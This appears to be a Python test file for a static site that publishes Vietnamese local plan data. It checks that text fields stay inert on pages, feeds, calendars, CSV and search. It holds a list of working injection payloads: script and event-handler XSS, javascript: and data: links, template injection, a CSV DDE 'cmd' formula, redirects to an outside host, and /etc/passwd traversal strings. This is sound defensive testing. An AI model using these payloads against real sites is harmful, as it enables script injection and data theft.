@@ -1,0 +1,419 @@
+"""Whatever is written into a text field is shown as text: on pages, in files, in search.
+
+Comes from group e of the list of threats. One small country is made in which plan number
+n, its places, units, documents, reports and registers hold payload n in every text field;
+and the same country with every sign of a payload replaced by a dot. Both are built. The
+two sites may differ in those signs only: no element, no attribute more or less.
+"""
+
+from __future__ import annotations
+
+import csv
+import functools
+import io
+import json
+import re
+import threading
+from collections import Counter
+from collections.abc import Callable, Iterable, Iterator
+from datetime import date
+from http.server import ThreadingHTTPServer
+from pathlib import Path
+from typing import Any, get_args
+from urllib.parse import quote
+from xml.etree import ElementTree
+
+import feedparser
+import icalendar
+import pytest
+from conftest import PROVE, QuietServer, RunMkDocs
+from playwright.sync_api import Browser, Page, Route
+
+from hooks import model
+from hooks.check import check
+from hooks.load import load_dataset
+from hooks.text import slug
+
+PAYLOADS = {
+    "01-script": "<script>window.__pwned=1</script>",
+    "02-img": '<img src=x onerror="window.__pwned=2">',
+    "03-svg": '<svg onload="window.__pwned=3"><a xlink:href="javascript:window.__pwned=3">x</svg>',
+    "04-js-link": '<a href="javascript:window.__pwned=4">bấm</a> [bấm](javascript:window.__pwned=4)',
+    "05-js-entity": '<a href="&#106;avascript:window.__pwned=5">bấm</a> &lt;b&gt; &amp; &nbsp;',
+    "06-data-link": '<a href="data:text/html,<script>opener.__pwned=6</script>">bấm</a>',
+    "07-attr": '" autofocus onfocus="window.__pwned=7" onmouseover="window.__pwned=7',
+    "08-attr-nhay-don": "' autofocus onfocus='window.__pwned=8' onmouseover='window.__pwned=8",
+    "09-iframe": '<iframe srcdoc="<script>parent.__pwned=9</script>" src=https://x.vn/></iframe>',
+    "10-jsonld": "</script><script>window.__pwned=10</script>",
+    "11-comment": "--><script>window.__pwned=11</script><!-- ]]>",
+    "12-title": "</title></textarea></noscript><script>window.__pwned=12</script>",
+    "13-style": "<style>main{display:none}</style>",
+    "14-css-che": '<div style="position:fixed;inset:0;background:url(//x.vn)">che</div>',
+    "15-form": '<form action="https://x.vn/"><input name="mk" autofocus><button>Gửi</form>',
+    "16-meta": '<meta http-equiv="refresh" content="0;url=https://x.vn/">',
+    "17-base": '<base href="https://x.vn/"><link rel=stylesheet href=//x.vn/a.css>',
+    "18-attr-list": 'mục {: onclick="window.__pwned=18" #toan-van .note }',
+    "19-math": "<math><mtext><style><img src=x onerror=window.__pwned=19></style></mtext></math> $$x$$",
+    "20-anh-ngoai": '![ảnh](https://x.vn/a.png) <img src="https://x.vn/a.png">',
+    "21-jinja": "{{ 7*7 }} {{ site.__class__ }} {% if 1 %}x{% endif %}",
+    "22-jinja-ho": "{% raw {{ {# <!--",
+    "23-csv-bang": '=HYPERLINK("https://x.vn/";"bấm")',
+    "23b-csv-cong": "+1+cộng",
+    "23c-csv-tru": "-2+trừ",
+    "23d-csv-a-cong": "@SUM(ô)",
+    "24-dde": "=cmd|'/C calc'!A0",
+    "25-markdown": "# Đề mục | a | b | **đậm** `mã` [^1] *** <https://x.vn/>",
+    "26-snippet": '--8<-- "/etc/passwd" {! /etc/passwd !} !!! note',
+    "27-wikilink": "[[../../../etc/passwd]] [x](../../../README.md)",
+    "28-zalgo": "K\u0335\u0336\u0337\u0338\u0321\u0322ế\u0335\u0336\u0337 h\u0335\u0336oạch",
+    "29-emoji": "✅ 🟢 hoàn thành đúng hạn ✔",
+}
+AS_OF = "2028-06-30"
+LINK = "https://namsach.haiphong.gov.vn/lop"
+ANOTHER = re.compile(r"[^\w\s\u0300-\u036f]")
+"""A sign that can mean something to a browser, a template, a spreadsheet."""
+
+
+def tame(text: str) -> str:
+    """The same text without a sign that could do anything; as long, with the same letters."""
+    return ANOTHER.sub("·", text)
+
+
+def country(spell: Callable[[str], str]) -> dict[str, Any]:
+    """Every data file by its path; `spell` makes a payload what is written."""
+    texts = {number: f"{spell(payload)} số {number}" for number, payload in enumerate(PAYLOADS.values(), 10)}
+    source = {number: {"title": text, "url": LINK} for number, text in texts.items()}
+    files: dict[str, Any] = {
+        "localities.yml": {
+            "source": {"title": " ".join(texts.values()), "url": LINK},
+            "in_force": "2025-07-01",
+            "provinces": {
+                str(number): {"name": text, "note": text, "communes": {f"{number}001": f"{text} xã"}} for number, text in texts.items()
+            },
+            "dissolved": {
+                f"cu-{number}": {"name": f"{text} cũ", "level": "province", "until": "2025-07-01", "successors": [str(number)], "source": source[number], "note": text}
+                for number, text in texts.items()
+            },
+        },
+        "units.yml": {
+            f"u{number}": {"name": text, "level": ["commune"], "nature": "state", "abbreviations": [f"{text} tắt"], "spellings": [f"{text} khác"], "note": text, "source": source[number]}
+            for number, text in texts.items()
+        } | {
+            f"m{number}": {"name": f"{text} mặt trận", "level": ["commune"], "nature": "front"} for number, text in texts.items()
+        },
+        "documents.yml": {
+            f"d{number}": {
+                "type": text, "number": f"{number}", "symbol": text, "date": "2026-01-20", "issuer": text, "title": text, "names": [text], "note": text,
+                "known_from": [source[number]], "items": [{"id": "muc-1", "text": text}], "obliges": str(number),
+                "targets": [{"measure": f"p{number}", "printed": text, "comparator": ">", "value": "9", "unit": text, "population": text, "source": source[number]}],
+            }
+            for number, text in texts.items()
+        },
+        "programmes.yml": {f"c{number}": {"name": text, "subject": text, "document": f"d{number}", "summary": text} for number, text in texts.items()},
+        "measures.yml": {f"p{number}": {"name": text, "topic": text, "meaning": text} for number, text in texts.items()},
+    }
+    for number, text in texts.items():
+        files |= _plan(number, text, source[number])
+    return files
+
+
+def _plan(number: int, text: str, source: dict[str, str]) -> dict[str, Any]:
+    due = [{"printed": text, "before": "2028-06-30"}]
+    target = {"measure": f"p{number}", "printed": text, "population": text, "comparator": ">", "value": "90", "unit": text, "modal": text, "condition": text}
+    plan = {
+        "locality": f"{number}001",
+        "programme": f"c{number}",
+        "document": {"number": text, "symbol": text, "date": "2026-05", "issuer": text, "letterhead": [text], "type": text, "title": text},
+        "period": {"from": "2026", "to": "2030"},
+        "scope": text,
+        "cites": [{"document": f"d{number}", "relation": "parent", "printed": text, "at": "preamble"}],
+        "preamble": [text],
+        "body": [
+            {"id": "i", "number": text, "title": text, "text": text, "kind": "target", "items": [
+                {"id": "i.1", "number": text, "text": f"{text} {text}", "lead": [f"u{number}"], "due": due, "targets": [target], "implements": ["muc-1"]},
+            ]},
+            {"id": "ii", "number": text, "title": text, "kind": "task", "items": [
+                {"id": "ii.1", "number": text, "title": text, "text": text, "lead": [f"u{number}"], "requested": [f"m{number}"], "reporting": {"to": [f"u{number}"], "via": f"u{number}"}},
+                {"id": "ii.2", "text": f"{text} hai", "lead": [f"u{number}"]},
+            ]},
+        ],
+        "closing": [text],
+        "recipients_heading": text,
+        "recipients": [{"text": text, "units": [f"u{number}"]}],
+        "signature": [text],
+        "notes": [
+            {"at": at, "kind": "misprint", "printed": text, "meant": f"{text} đúng", "text": text}
+            for at in ("letterhead", "title", "preamble", "i.1", "closing", "recipients", "signature", "plan")
+        ],
+    }
+    first = {"unit": f"u{number}", "period": "2026", "date": "2026-10-28", "source": source, "entries": [
+        {"item": "i.1", "status": "in-progress", "value": "40", "text": text, "evidence": [{"title": text, "url": LINK}]},
+        {"item": "ii.1", "status": "done", "done_on": "2026-10-20", "text": text},
+    ]}
+    second = {"unit": f"u{number}", "period": "2027", "date": "2027-10-28", "entries": [
+        {"item": "i.1", "status": "in-progress", "value": "30", "text": text, "reason": text},
+        {"item": "ii.1", "status": "not-applicable", "reason": text},
+    ]}
+    folder = f"{slug(text)}/{slug(text)}-xa/ke-hoach"
+    return {f"{folder}/plan.yml": plan, f"{folder}/reports/2026-u{number}.yml": first, f"{folder}/reports/2027-u{number}.yml": second}
+
+
+def write_country(folder: Path, spell: Callable[[str], str]) -> Path:
+    """The data folder of a country, without a fault."""
+    plans = folder / "plans"
+    for name, content in country(spell).items():
+        file = plans / name
+        file.parent.mkdir(parents=True, exist_ok=True)
+        file.write_text(json.dumps(content, ensure_ascii=False), "utf-8")  # JSON is YAML
+    dataset, problems = load_dataset(plans)
+    assert [str(problem) for problem in [*problems, *check(dataset, date.fromisoformat(AS_OF))]] == []
+    return plans
+
+
+@pytest.fixture(scope="module")
+def sites(tmp_path_factory: pytest.TempPathFactory, run_mkdocs: RunMkDocs) -> tuple[Path, Path]:
+    """The site of the country with payloads, and of the one without."""
+    built = []
+    for name, spell in (("wild", str), ("tame", tame)):
+        folder = tmp_path_factory.mktemp(name)
+        done = run_mkdocs("build", "--site-dir", folder / "site", PLANS_DIR=write_country(folder, spell), AS_OF=AS_OF)
+        assert done.returncode == 0, done.stdout + done.stderr
+        built.append(folder / "site")
+    return built[0], built[1]
+
+
+def pairs(sites: tuple[Path, Path], pattern: str) -> Iterator[tuple[str, bytes, bytes]]:
+    """Each file of the two sites: name, wild, tame."""
+    names = [{file.relative_to(site).as_posix() for file in site.rglob(pattern)} for site in sites]
+    assert names[0] == names[1] != set()
+    for name in sorted(names[0]):
+        yield name, (sites[0] / name).read_bytes(), (sites[1] / name).read_bytes()
+
+
+def strings(value: Any) -> Iterator[str]:
+    """Every string in JSON data."""
+    if isinstance(value, str):
+        yield value
+    elif isinstance(value, list | dict):
+        for part in value.values() if isinstance(value, dict) else value:
+            yield from strings(part)
+
+
+def assert_same_but_for_signs(wild: Iterable[str], other: Iterable[str], name: str) -> None:
+    """Both hold the same texts, and the wild one every payload as it was written."""
+    wild_texts = Counter(map(str.casefold, wild))
+    assert _tamed(wild_texts) == _tamed(Counter(map(str.casefold, other))), name
+    assert_as_written(wild_texts, name)
+
+
+def assert_as_written(texts: Counter[str], name: str) -> None:
+    """Wherever the letters of a payload stand, so do its signs."""
+    for payload in map(str.casefold, PAYLOADS.values()):
+        literal = sum(text.count(payload) * count for text, count in texts.items())
+        letters = sum(tame(text).count(tame(payload)) * count for text, count in texts.items())
+        assert literal == letters, f"{name}: {payload} is not shown as it was written"
+
+
+def _tamed(texts: Counter[str]) -> Counter[str]:
+    tamed: Counter[str] = Counter()
+    for text, count in texts.items():
+        # Where a text is cut, signs before the cut fall away, too.
+        tamed[tame(re.sub(r"\W*…", "…", text))] += count
+    return tamed
+
+
+READ = """(html) => {
+  const found = {elements: [], texts: []};
+  const walk = document.createTreeWalker(new DOMParser().parseFromString(html, "text/html"), NodeFilter.SHOW_ALL);
+  while (walk.nextNode()) {
+    const node = walk.currentNode;
+    if (node.nodeType !== Node.ELEMENT_NODE) found.texts.push(`${node.nodeName} in ${node.parentNode.nodeName}: ${node.data ?? node.name}`);
+    else {
+      found.elements.push([node.parentNode.nodeName, node.nodeName, ...node.getAttributeNames().sort()].join(" "));
+      found.texts.push(...node.getAttributeNames().map((name) => `${name}=${node.getAttribute(name)}`));
+    }
+  }
+  return found;
+}"""
+"""What a browser makes of a page: its elements with their attributes, and all its texts."""
+
+
+@pytest.fixture(scope="module")
+def reader(browser: Browser) -> Iterator[Page]:
+    """A browser's page to parse others in."""
+    page = browser.new_page()
+    yield page
+    page.close()
+
+
+def test_no_payload_becomes_an_element_an_attribute_or_other_words(sites: tuple[Path, Path], reader: Page):
+    for name, wild, other in pairs(sites, "*.html"):
+        one, two = (reader.evaluate(READ, content.decode()) for content in (wild, other))
+        assert Counter(one["elements"]) == Counter(two["elements"]), name
+        assert_same_but_for_signs(one["texts"], two["texts"], name)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
+def test_a_payload_stands_in_the_titles_and_texts_of_its_pages(sites: tuple[Path, Path], reader: Page, payload: str):
+    number = 10 + list(PAYLOADS.values()).index(payload)
+    name = f"{payload} số {number}"
+    address = f"{slug(name)}/{slug(name)}-xa"
+    read = """(html) => {
+      const page = new DOMParser().parseFromString(html, "text/html");
+      return [page.title, page.querySelector('meta[property="og:title"]').content, page.querySelector("main").textContent];
+    }"""
+    for folder in (f"ke-hoach/{address}/ke-hoach", f"ke-hoach/{address}/ke-hoach/bao-cao/2026-u{number}", f"dia-phuong/{address}", f"don-vi/u{number}", f"van-ban/d{number}", f"chuong-trinh/c{number}"):
+        for text in reader.evaluate(read, (sites[0] / folder / "index.html").read_text("utf-8")):
+            assert payload.casefold() in text.casefold(), folder
+
+
+def test_search_data_and_tables_of_places_hold_the_words_as_written(sites: tuple[Path, Path]):
+    for name, wild, other in pairs(sites, "*.json"):
+        if name != "manifest.json" and not name.startswith("pagefind/"):
+            one, two = (list(map(str.casefold, strings(json.loads(content)))) for content in (wild, other))
+            assert len(one) == len(two), name
+            assert_as_written(Counter(one), name)
+            letters = sum(tame(payload.casefold()) in tame(text) for text in one for payload in PAYLOADS.values())
+            assert letters == sum(tame(payload.casefold()) in text for text in two for payload in PAYLOADS.values()) > 0, name
+
+
+def test_feeds_hold_the_words_as_written(sites: tuple[Path, Path]):
+    for name, wild, other in pairs(sites, "*.xml"):
+        one, two = (list(ElementTree.fromstring(content).iter()) for content in (wild, other))
+        assert [(node.tag, *node.attrib) for node in one] == [(node.tag, *node.attrib) for node in two], name
+        assert_same_but_for_signs((node.text or "" for node in one), (node.text or "" for node in two), name)
+        if name.endswith("atom.xml"):
+            read = feedparser.parse(wild)
+            assert not read.bozo, name
+            assert {entry.title_detail.type for entry in read.entries} <= {"text/plain"}, name
+
+
+def test_the_calendar_holds_the_words_as_written(sites: tuple[Path, Path]):
+    for name, wild, other in pairs(sites, "*.ics"):
+        one, two = (icalendar.Calendar.from_ical(content.decode()).walk() for content in (wild, other))
+        assert [event.name for event in one] == [event.name for event in two]
+        assert_same_but_for_signs(*((str(event.get(key)) for event in events for key in ("SUMMARY", "DESCRIPTION")) for events in (one, two)), name)
+
+
+def test_no_cell_of_a_table_is_a_formula(sites: tuple[Path, Path]):
+    for name, wild, other in pairs(sites, "*.csv"):
+        one, two = ([cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row] for content in (wild, other))
+        assert not [cell for cell in one if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], name
+        assert_same_but_for_signs((re.sub("^'(?=[=+@-])", "", cell) for cell in one), iter(two), name)
+
+
+def test_no_payload_runs_on_any_page_nor_in_search_nor_in_the_finder(sites: tuple[Path, Path], browser: Browser):
+    """In a browser that was told to overlook the security policy: the text alone has to be harmless."""
+    handler = functools.partial(QuietServer, directory=str(sites[0]))
+    foreign: list[str] = []
+    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as http:
+        threading.Thread(target=http.serve_forever, daemon=True).start()
+        server = f"http://127.0.0.1:{http.server_port}"
+        context = browser.new_context(bypass_csp=True)
+
+        def stay_home(route: Route) -> None:
+            if route.request.url.startswith(f"{server}/"):
+                route.continue_()
+            else:
+                foreign.append(route.request.url)
+                route.abort()
+
+        context.route("**/*", stay_home)
+        page = context.new_page()
+        page.on("dialog", lambda dialog: foreign.append(dialog.message))
+        addresses = [file.relative_to(sites[0]).as_posix() for file in sorted(sites[0].rglob("*.html"))]
+        for address in addresses if PROVE else addresses[::4]:
+            page.goto(f"{server}/{address}")
+            assert page.evaluate("window.__pwned") is None, address
+            assert page.url == f"{server}/{address}"
+        results = page.locator("#search-results > li")
+        for payload in PAYLOADS.values():
+            page.goto(f"{server}/tim-kiem/?q={quote(payload)}")
+            page.wait_for_function("!document.getElementById('search-status').textContent.endsWith('…')")
+            assert page.evaluate("window.__pwned") is None, payload
+            assert payload in page.title() or not page.locator("#search-status").text_content()
+            assert results.count() or "Không tìm thấy" in page.locator("#search-status").text_content()
+        page.goto(f"{server}/")
+        finder = page.locator("input[data-finder]")
+        for payload in PAYLOADS.values():
+            finder.fill(slug(payload)[:12])
+            finder.press("End")
+            page.wait_for_function("document.querySelector('.suggestions')")
+            assert page.evaluate("window.__pwned") is None, payload
+        context.close()
+        http.shutdown()
+    assert not foreign
+
+
+# ------------------------------------------------------- what stands where
+
+
+def records(shape: Any) -> Iterator[type[model.Record]]:
+    """Every kind of record that a kind of data file can hold, the whole first."""
+    found: list[type[model.Record]] = []
+    waiting = [shape]
+    while waiting:
+        part = waiting.pop()
+        if isinstance(part, type) and issubclass(part, model.Record) and part not in found:
+            found.append(part)
+            waiting += [field.annotation for field in part.model_fields.values()]
+        waiting += get_args(part)
+    return iter(found)
+
+
+TEXT = get_args(model.Text)[1]
+"""What marks a field as free text in the model."""
+OF_OTHER_FORM = {
+    ("Plan", "locality"), ("Plan", "supersedes"), ("Plan", "former_paths"), ("Report", "period"), ("Entry", "corrects"),
+    ("DissolvedLocality", "province"), ("DissolvedLocality", "successors"), ("Document", "obliges"), ("Document", "number"),
+    ("Evidence", "url"), ("Source", "url"),
+}
+"""Text fields that are held to codes, paths and addresses, by the rules of `hooks.rules`."""
+
+
+def test_every_text_field_of_every_data_file_holds_a_payload(tmp_path: Path):
+    """So that a field added to the model is tested from its first day."""
+    dataset, _ = load_dataset(write_country(tmp_path, str))
+    filled = set()
+
+    def look(value: Any, inside: tuple[str, str]) -> None:
+        if isinstance(value, model.Record):
+            for name in type(value).model_fields:
+                look(getattr(value, name), (type(value).__name__, name))
+        elif isinstance(value, dict | tuple):
+            for part in value.values() if isinstance(value, dict) else value:
+                look(part, inside)
+        elif isinstance(value, str) and PAYLOADS["01-script"] in value:
+            filled.add(inside)
+
+    registers = [loaded.value for loaded in dataset.registers.values()]
+    plans = [loaded.value for loaded in dataset.plans.values()]
+    reports = [loaded.value for filed in dataset.reports.values() for loaded in filed.values()]
+    for value in (*registers, *plans, *reports):
+        look(value, ("", ""))
+    shapes = (model.Localities, model.Units, model.Documents, model.Programmes, model.Measures, model.Plan, model.Report)
+    texts = {
+        (record.__name__, name)
+        for shape in shapes for record in records(shape) for name, field in record.model_fields.items()
+        if TEXT in field.metadata or str(TEXT) in str(field.annotation)
+    }
+    assert texts - filled == OF_OTHER_FORM
+
+
+@pytest.mark.parametrize("url", [
+    "javascript:window.__pwned=30", "JavaScript:alert(1)", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "http://namsach.haiphong.gov.vn/",
+    "//x.vn/", "https://an:mat-khau@x.vn/", "https:javascript:alert(1)", 'https://x.vn/"onclick="alert(1)', "vbscript:x", "../../../etc/passwd", "&#106;avascript:alert(1)",
+])
+def test_a_link_that_is_not_https_is_refused_wherever_a_link_can_stand(tmp_path: Path, url: str):
+    places = 0
+    for name, content in country(tame).items():
+        text = json.dumps(content, ensure_ascii=False)
+        places += text.count(json.dumps(LINK))
+        file = tmp_path / "plans" / name
+        file.parent.mkdir(parents=True, exist_ok=True)
+        file.write_text(text.replace(json.dumps(LINK), json.dumps(url)), "utf-8")
+    dataset, problems = load_dataset(tmp_path / "plans")
+    problems += check(dataset, date.fromisoformat(AS_OF))
+    assert places > 100
+    assert {problem.severity for problem in problems} == {"error"}
+    assert len(problems) == places
